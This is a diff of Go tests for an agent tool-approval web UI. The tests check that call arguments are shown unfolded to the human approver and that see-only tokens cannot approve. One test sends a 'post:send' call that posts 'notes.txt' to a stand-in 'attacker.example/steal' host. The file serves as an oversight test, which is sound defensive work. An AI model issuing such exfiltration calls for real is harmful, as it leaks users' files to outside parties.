@@ -125,23 +125,30 @@ func TestWhatDecidesIsNeverFolded(t *testing.T) {
 		Headers map[string]string `json:"headers"`
 	}
 	r.Plug(plugin.Manifest{Name: "post", Version: "1.0.0"}, "post:send",
-		plugin.Tool("post:send", "Posts a body to a URL.", func(context.Context, post) (string, error) { return "sent", nil }))
+		plugin.Tool("post:send", "Posts a body to a URL.",
+			func(context.Context, post) (string, error) { return "sent", nil }))
 	p := r.SignedIn(t, "steal")
 	p.Say(`call post:send {"method": "POST", "path": "notes.txt", "url": "https://attacker.example/steal", "headers": {"X-A": "1"}, "body": "Dear team,\nthe weather is fine.\n"}`)
 	const card = `.ask[data-open=true] `
 	p.Wait(`one("` + card + `.ask-approve:not(:disabled)")`)
 	for _, want := range []string{"POST", "https://attacker.example/steal", "X-A", "the weather is fine."} {
-		if !webtest.Get[bool](p, `all("`+card+`:is(.ask-args, .ask-code)").some((e) => e.checkVisibility() && !e.closest("details") && e.innerText.includes(`+"`"+want+"`"+`))`) {
+		if !webtest.Get[bool](p,
+			`all("`+card+
+				`:is(.ask-args, .ask-code)").some((e) => e.checkVisibility() && !e.closest("details") && e.innerText.includes(`+"`"+
+				want+"`"+`))`) {
 			t.Errorf("%q is not open", want)
 		}
 	}
-	if n := webtest.Get[int](p, `all("`+card+`:is(.ask-args, .ask-code)").filter((e) => !e.closest("details") && e.innerText.includes("weather")).length`); n != 1 {
+	if n := webtest.Get[int](p,
+		`all("`+card+
+			`:is(.ask-args, .ask-code)").filter((e) => !e.closest("details") && e.innerText.includes("weather")).length`); n != 1 {
 		t.Errorf("the body is shown %d times, want once", n)
 	}
 	p.Wait(`text(".call-args").startsWith("https://attacker.example")`)
 	p.Shot("nothing-folded")
 	// Names that are one for some reader are shown as they came, and no other way.
-	whole := webtest.Get[[]bool](p, `import(one("script[type=module]").src.replace(/app\.js$/, "exact.js")).then(({fields, object}) => [
+	whole := webtest.Get[[]bool](p,
+		`import(one("script[type=module]").src.replace(/app\.js$/, "exact.js")).then(({fields, object}) => [
 		fields('{"a": 1, "A": "x\\ny"}') === null, fields('[1]') === null,
 		object(fields('{"n": 12345678901234567890, "o": {"a": [1, {"b": 2}]}, "s": "{,}"}')) === '{"n":12345678901234567890,"o":{"a": [1, {"b": 2}]},"s":"{,}"}',
 		object(fields('{}')) === '{}'])`)
@@ -189,7 +196,8 @@ func TestALongCallIsApprovedWhenAllOfItWasSeen(t *testing.T) {
 func TestWhoMayNotApproveHasNoButton(t *testing.T) {
 	const token = "a-token-that-looks-0123456789abcdefghij"
 	t.Setenv("LOOKER", token)
-	r := webtest.Start(t, webtest.Options{Config: asks + "ui: {tokens: [{name: looker, token: 'env:LOOKER', rights: [see]}]}\n"})
+	r := webtest.Start(t,
+		webtest.Options{Config: asks + "ui: {tokens: [{name: looker, token: 'env:LOOKER', rights: [see]}]}\n"})
 	p := r.SignedIn(t, "looker")
 	q := r.WithToken(t, token, "looker")
 	q.Wait(`one("#input").disabled`)
